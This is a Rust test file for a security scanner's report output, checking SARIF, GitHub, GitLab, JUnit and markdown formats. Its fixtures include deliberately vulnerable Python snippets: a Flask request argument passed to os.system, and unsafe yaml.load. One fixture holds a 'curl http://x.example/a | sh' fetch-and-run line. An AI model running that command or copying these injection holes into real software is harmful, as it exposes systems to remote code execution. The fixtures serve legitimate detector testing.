//! What others read of `security-eval`: SARIF, annotations, code quality, JUnit, one line a finding.

use std::collections::{BTreeMap, BTreeSet};

use aetherra_maint::model::{Finding, Severity, TaintStep};
use aetherra_maint::report::security_eval::{RuleNote, SecurityReport};
use aetherra_maint::report::{Format, Report as _};
use serde_json::Value;

use crate::room::{Ran, Room, repository};

const FLOW: &str = "from flask import Flask, request\nimport os\n\napp = Flask(__name__)\n\n\n@app.route('/x')\n\
                    def x():\n    name = request.args['name']\n    os.system('convert ' + name)\n    return ''\n";
const SHELL: &str = "import os\nos.system('a' + b)\n";
const YAML: &str = "import yaml\nx = '𝒳é'; y = yaml.load(s)\n";

fn document(ran: &Ran) -> Value {
    serde_json::from_str(&ran.stdout).unwrap_or_else(|error| panic!("{error}: {} {}", ran.stdout, ran.stderr))
}

fn list<'v>(value: &'v Value, pointer: &str) -> &'v [Value] {
    value.pointer(pointer).and_then(Value::as_array).map_or(&[], Vec::as_slice)
}

/// Validates a document against the schema that OASIS publishes with the standard.
#[track_caller]
fn assert_sarif(sarif: &Value) {
    let text = std::fs::read_to_string(repository().join("tests/sarif-2.1.0.json")).expect("the schema");
    // One pattern of it has a bracket too many, which is no regular expression.
    let text = text.replace("[a-zA-Z]{2}]?$", "[a-zA-Z]{2}$");
    let schema: Value = serde_json::from_str(&text).expect("JSON");
    let validator = jsonschema::draft7::new(&schema).expect("a valid JSON Schema");
    let problems: Vec<String> =
        validator.iter_errors(sarif).map(|error| format!("{}: {error}", error.instance_path())).take(5).collect();
    assert!(problems.is_empty(), "{problems:#?}");
}

#[test]
fn every_sarif_document_is_one_by_the_standard() {
    let bad = "import os\nos.system('a' + b)  # nosec\nos.system('a' + b)\nx = 1  # nosec\n";
    let room = Room::with(&[("flow.py", FLOW), ("é %?.py", YAML), ("sub/a.py", bad), ("gap.py", "def f(:\n")]);
    room.write("zeros.py", [0_u8; 300]);
    room.write("one.sh", "curl http://x.example/a | sh\n");
    for (arguments, code) in [
        (&["security-eval", "--report-from", "note"][..], 1),
        (&["security-eval", "--report-from", "note", "--select", "bandit"], 1),
        (&["security-eval", "zeros.py"], 3),
        (&["security-eval", "--select", "weak-hash", "sub"], 0),
        (&["security-eval", "not-there"], 2),
        (&["security-eval", "--state", "gap.py", "sub"], 5),
    ] {
        let ran = Ran::of(room.command(arguments).args(["-f", "sarif"]));
        assert_eq!(ran.code, code, "{arguments:?}: {}", ran.stderr);
        let sarif = document(&ran);
        assert_sarif(&sarif);
        assert_eq!(list(&sarif, "/runs").len(), 1);
        let ok = &sarif["runs"][0]["invocations"][0]["executionSuccessful"];
        assert_eq!(ok, &Value::from(code == 0), "{arguments:?}");
    }
    let outside = room.home().join("out.py");
    std::fs::write(&outside, SHELL).expect("a file");
    let path = outside.display().to_string();
    let sarif = document(&room.run(&["security-eval", &path, "-f", "sarif"]));
    assert_sarif(&sarif);
    assert!(sarif["runs"][0]["results"][0].is_object(), "{sarif:#}");
    // What the schema refuses, the test would see.
    let mut broken = sarif.clone();
    broken["runs"][0]["results"][0]["level"] = "high".into();
    assert!(std::panic::catch_unwind(|| assert_sarif(&broken)).is_err());
}

/// What GitHub demands of a document, and what it shows of one.
fn assert_github_takes(sarif: &Value) {
    assert_eq!(sarif["version"], "2.1.0");
    assert!(list(sarif, "/runs").len() == 1, "at most 20 runs");
    let run = &sarif["runs"][0];
    let rules = list(run, "/tool/driver/rules");
    for rule in rules {
        assert!(list(rule, "/properties/tags").len() <= 10, "{rule}");
        for field in ["shortDescription", "fullDescription", "help"] {
            let text = rule[field]["text"].as_str().expect("a text");
            assert!(!text.is_empty() && text.chars().count() <= 1_024, "{rule}");
        }
        let severity: f64 =
            rule["properties"]["security-severity"].as_str().and_then(|s| s.parse().ok()).expect("a score");
        assert!((0.0..=10.0).contains(&severity));
    }
    let results = list(run, "/results");
    assert!(results.len() <= 25_000);
    let mut prints = BTreeSet::new();
    for result in results {
        let index = result["ruleIndex"].as_u64().and_then(|index| usize::try_from(index).ok()).expect("an index");
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(["none", "note", "warning", "error"].iter().any(|level| result["level"] == *level));
        assert!(
            result["message"]["text"].as_str().is_some_and(|text| !text.is_empty() && text.chars().count() < 1_100)
        );
        let print = result["partialFingerprints"]["primaryLocationLineHash"].as_str().expect("a fingerprint");
        assert!(prints.insert(print), "{print} twice");
        assert!(list(result, "/locations").len() + list(result, "/relatedLocations").len() <= 100);
        let steps = list(result, "/codeFlows/0/threadFlows/0/locations");
        assert!(steps.len() <= 1_000);
        let places = list(result, "/locations").iter().chain(list(result, "/relatedLocations"));
        for place in places.chain(steps.iter().map(|step| &step["location"])) {
            let place = &place["physicalLocation"];
            let uri = place["artifactLocation"]["uri"].as_str().expect("a uri");
            assert!(!uri.starts_with('/') && !uri.contains(' ') && uri.is_ascii(), "{uri}");
            let base = place["artifactLocation"]["uriBaseId"].as_str().expect("a base");
            assert!(run["originalUriBaseIds"][base].is_object(), "{base}");
            for key in ["startLine", "startColumn"] {
                assert!(place["region"][key].as_u64().is_some_and(|number| number > 0), "{place}");
            }
        }
    }
}

#[test]
fn sarif_has_the_whole_path_and_the_fixes() {
    let room = Room::with(&[("app/é x.py", FLOW), ("yaml.py", YAML)]);
    let ran = room.run(&["security-eval", ".", "-f", "sarif", "--report-from", "note"]);
    let sarif = document(&ran);
    assert_github_takes(&sarif);
    let results = list(&sarif, "/runs/0/results");
    let flow = results.iter().find(|result| result["codeFlows"].is_array()).expect("a flow");
    let steps = list(flow, "/codeFlows/0/threadFlows/0/locations");
    assert!(steps.len() >= 2, "{flow:#}");
    assert_eq!(steps[0]["location"]["physicalLocation"]["region"]["startLine"], 9);
    assert_eq!(list(flow, "/relatedLocations").len(), steps.len());
    assert_eq!(flow["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "app/%C3%A9%20x.py");
    // The columns count characters, whatever they take in bytes or in UTF-16, and say so.
    assert_eq!(sarif["runs"][0]["columnKind"], "unicodeCodePoints");
    let fixed = results.iter().find(|result| result["fixes"].is_array()).expect("a fix");
    let change = &fixed["fixes"][0]["artifactChanges"][0];
    assert_eq!(change["artifactLocation"]["uri"], "yaml.py");
    let region = &change["replacements"][0]["deletedRegion"];
    let column = |key: &str| region[key].as_u64().and_then(|n| usize::try_from(n).ok()).expect("a column");
    let line: Vec<char> = YAML.lines().nth(column("startLine") - 1).expect("a line").chars().collect();
    let (from, to) = (column("startColumn") - 1, column("endColumn") - 1);
    let new = change["replacements"][0]["insertedContent"]["text"].as_str().expect("a text");
    let by_hand: String = line[..from].iter().chain(&new.chars().collect::<Vec<_>>()).chain(&line[to..]).collect();
    assert_eq!(room.run(&["security-eval", "yaml.py", "--fix"]).code, 0);
    let by_us = std::fs::read_to_string(room.path("yaml.py")).expect("the file");
    assert_eq!(by_us.lines().nth(1), Some(by_hand.as_str()));
}

#[test]
fn more_than_github_shows_is_said() {
    let room = Room::new();
    room.write("a.py", format!("import tempfile\n{}", "tempfile.mktemp()\n".repeat(5_100)));
    let ran = room.run(&["security-eval", ".", "-f", "json", "-o", "sarif=out.sarif"]);
    assert!(ran.stderr.contains("results-cut"), "{}", ran.stderr);
    assert!(list(&document(&ran), "/diagnostics").iter().any(|said| said["code"] == "results-cut"));
    let sarif: Value = serde_json::from_slice(&std::fs::read(room.path("out.sarif")).expect("a file")).expect("SARIF");
    assert_github_takes(&sarif);
    assert_eq!(list(&sarif, "/runs/0/results").len(), 5_100);
    let notes = list(&sarif, "/runs/0/invocations/0/toolExecutionNotifications");
    assert!(notes.iter().any(|note| note["descriptor"]["id"] == "results-cut"), "{notes:?}");
}

#[test]
fn more_than_github_takes_is_cut_by_severity() {
    let finding = |line: u32, severity| Finding {
        rule: "shell-command".into(),
        path: "a.py".into(),
        message: "bad".into(),
        fingerprint: format!("{line:032x}"),
        line,
        column: 1,
        end_line: line,
        end_column: 2,
        severity,
        path_of_data: (1..=2_000)
            .map(|line| TaintStep { path: "a.py".into(), line, column: 1, note: "x".into() })
            .take(if line == 1 { 2_000 } else { 0 })
            .collect(),
        ..Finding::default()
    };
    let rule = RuleNote {
        id: "shell-command".into(),
        title: "t".into(),
        help: "h".into(),
        cwe: 78,
        severity: Severity::High,
        aliases: (0..40).map(|n| format!("B{n}")).collect(),
        page: String::new(),
    };
    let findings = (1..=3_000)
        .map(|line| finding(line, Severity::Low))
        .chain((3_001..=26_000).map(|line| finding(line, Severity::High)));
    let report = SecurityReport { findings: findings.collect(), rules: vec![rule], ..SecurityReport::default() };
    let sarif: Value = serde_json::from_str(&report.render(Format::Sarif).expect("SARIF")).expect("JSON");
    assert_github_takes(&sarif);
    let results = list(&sarif, "/runs/0/results");
    assert_eq!(results.len(), 25_000);
    assert_eq!(results.iter().filter(|result| result["level"] == "error").count(), 23_000);
    assert_eq!(list(&results[0], "/codeFlows/0/threadFlows/0/locations").len(), 1_000);
    let mut some = sarif.clone();
    some["runs"][0]["results"].as_array_mut().expect("results").truncate(20);
    assert_sarif(&some);
    let said = report.left_out(Format::Sarif);
    assert!(said.iter().any(|said| said.message.contains("26000 results")), "{said:?}");
}

#[test]
fn annotations_stay_within_what_github_shows() {
    let room = Room::new();
    room.write("a.py", format!("import os, tempfile\n{}", "os.system('a' + b)\ntempfile.mktemp()\n".repeat(14)));
    room.write("##[error]x.py", "def f(:\n");
    for name in ["g1", "g2", "g3", "g4", "g5", "g6", "g7"] {
        room.write(&format!("{name}.py"), "def f(:\n");
    }
    let ran = room.run(&["security-eval", ".", "-f", "github", "--report-from", "note"]);
    let count = |level: &str| ran.stdout.lines().filter(|line| line.starts_with(&format!("::{level} "))).count();
    assert_eq!((count("error"), count("warning"), count("notice")), (10, 10, 1), "{}", ran.stdout);
    // Nothing is lost: what cannot be shown is in the log, where it is no command.
    let (commands, log): (Vec<_>, Vec<_>) = ran.stdout.lines().partition(|line| line.starts_with("::"));
    assert_eq!(commands.len() - 1 + log.len(), 14 + 14 + 8);
    assert!(log.iter().all(|line| line.starts_with("- ")));
    assert!(!ran.stdout.contains("##["));
    assert!(commands.last().is_some_and(|line| line.contains(&format!("{} more", log.len()))), "{commands:?}");
}

#[test]
fn gitlab_has_every_field_and_no_fingerprint_twice() {
    let room = Room::with(&[("a.py", &SHELL.repeat(3)), ("gap.py", "def f(:\n")]);
    let ran = room.run(&["security-eval", ".", "-f", "gitlab"]);
    let issues = document(&ran);
    let issues = issues.as_array().expect("a list");
    let mut prints = BTreeSet::new();
    for issue in issues {
        assert!(issue["description"].as_str().is_some_and(|text| !text.is_empty()));
        assert!(issue["check_name"].is_string());
        assert!(["info", "minor", "major", "critical", "blocker"].iter().any(|word| issue["severity"] == *word));
        assert!(issue["location"]["path"].as_str().is_some_and(|path| !path.starts_with('/')));
        assert!(issue["location"]["lines"]["begin"].as_u64().is_some_and(|line| line > 0));
        assert!(prints.insert(issue["fingerprint"].as_str().expect("a fingerprint")));
    }
    assert_eq!(issues.iter().filter(|issue| issue["check_name"] == "shell-command").count(), 3);
    assert_eq!(issues.iter().filter(|issue| issue["check_name"] == "not-judged").count(), 1);
}

/// The start tags of a well-formed document with their attributes.
pub fn elements(xml: &str) -> Vec<(String, BTreeMap<String, String>)> {
    let tag = regex::Regex::new(r#"<(/?)([a-z]+)((?: [a-z]+="[^"<]*")*)(/?)>"#).expect("a pattern");
    let attribute = regex::Regex::new(r#" ([a-z]+)="([^"]*)""#).expect("a pattern");
    let (mut open, mut all, mut end) = (Vec::new(), Vec::new(), 0);
    let body = xml.split_once("?>\n").expect("a declaration").1;
    for found in tag.captures_iter(body) {
        let whole = found.get(0).expect("a match");
        let between = &body[end..whole.start()];
        assert!(!between.contains(['<', '>']), "{between}");
        end = whole.end();
        if &found[1] == "/" {
            assert_eq!(open.pop().as_deref(), Some(&found[2]));
            continue;
        }
        let attributes = attribute.captures_iter(&found[3]).map(|one| (one[1].to_owned(), one[2].to_owned())).collect();
        all.push((found[2].to_owned(), attributes));
        if &found[4] != "/" {
            open.push(found[2].to_owned());
        }
    }
    assert!(open.is_empty() && body[end..].trim().is_empty(), "{open:?} {}", &body[end..]);
    all
}

#[test]
fn junit_is_well_formed_and_counts_what_it_has() {
    let room = Room::with(&[
        ("a&<b>\"'.py", &SHELL.repeat(2)),
        ("clean.py", "x = 1\n"),
        ("both.py", "import os\nos.system('a' + b)\ndef f(:\n"),
        ("gap.py", "def f(:\n"),
    ]);
    let ran = room.run(&["security-eval", ".", "-f", "junit"]);
    let all = elements(&ran.stdout);
    let count = |name: &str| all.iter().filter(|(tag, _)| tag == name).count();
    let sum = |key: &str| -> usize {
        let suites = all.iter().filter(|(tag, _)| tag == "testsuite");
        suites.map(|(_, attributes)| attributes[key].parse::<usize>().expect("a number")).sum()
    };
    let (_, top) = &all[0];
    let said = |key: &str| top[key].parse::<usize>().expect("a number");
    assert_eq!((count("testcase"), count("failure"), count("error")), (6, 3, 2), "{}", ran.stdout);
    assert_eq!((said("tests"), said("failures"), said("errors")), (6, 3, 2));
    assert_eq!((sum("tests"), sum("failures"), sum("errors")), (6, 3, 2));
}

#[test]
fn editors_get_one_line_a_finding() {
    let room = Room::with(&[("a.py", SHELL), ("sub/b.py", &format!("'𝒳'; x = 1\n{SHELL}"))]);
    let ran = room.run(&["security-eval", ".", "--output-style", "concise"]);
    let form = regex::Regex::new(r"^[^:]+:[0-9]+:[0-9]+: (note|low|medium|high|critical)\[[a-z0-9-]+\] .+$")
        .expect("a pattern");
    let lines: Vec<&str> = ran.stdout.lines().collect();
    let (last, findings) = lines.split_last().expect("lines");
    assert_eq!(findings.len(), 2);
    assert!(findings.iter().all(|line| form.is_match(line)), "{findings:?}");
    assert!(findings[1].starts_with("sub/b.py:3:1: high[shell-command] "), "{findings:?}");
    assert!(last.starts_with("2 findings in 2 files"), "{last}");
}

#[test]
fn a_summary_in_markdown_fits_into_a_comment() {
    let room = Room::new();
    for number in 0..150 {
        room.write(&format!("{}{number}.py", "a".repeat(200)), SHELL.repeat(3));
        room.write(&format!("{}{number}.py", "gap".repeat(60)), "def f(:\n");
    }
    let ran = room.run(&["security-eval", ".", "-f", "markdown"]);
    assert!(ran.stdout.len() < 65_536, "{}", ran.stdout.len());
    assert!(ran.stdout.contains("more findings are not shown") && ran.stdout.contains("Not judged in full"));
}
